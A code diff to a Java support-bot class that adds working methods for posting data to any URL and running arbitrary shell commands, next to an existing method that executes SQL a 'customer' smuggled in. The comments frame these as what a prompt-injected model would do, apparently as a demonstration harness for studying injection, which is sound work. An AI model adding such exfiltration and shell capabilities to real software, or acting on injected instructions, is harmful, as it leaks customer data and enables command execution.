@@ -44,6 +44,27 @@ public class SupportBot {
         Session.current().state().put("refund.decision", decision);
     }
 
+    /**
+     * What a prompt-injected model does next: post the refunds it has seen in its conversations to a
+     * web host the attacker controls. Nothing here is a marked method: only the support bot's
+     * capabilities stand in the way.
+     */
+    public String exfiltrate(String url, String table) throws Exception {
+        java.net.http.HttpClient client = java.net.http.HttpClient.newBuilder()
+                .connectTimeout(java.time.Duration.ofSeconds(3)).build();
+        java.net.http.HttpResponse<String> response = client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(url))
+                        .timeout(java.time.Duration.ofSeconds(5))
+                        .POST(java.net.http.HttpRequest.BodyPublishers.ofString(table)).build(),
+                java.net.http.HttpResponse.BodyHandlers.ofString());
+        return "uploaded, status " + response.statusCode();
+    }
+
+    /** ...or spawn a shell to do the same. */
+    public String spawnShell(String command) throws Exception {
+        Process shell = new ProcessBuilder("sh", "-c", command).start();
+        return "the shell exited with " + shell.waitFor();
+    }
+
     /** What a prompt-injected model does: run the SQL the "customer" smuggled in. */
     public int followInjectedInstruction(String sql) {
         return database.execute(sql);
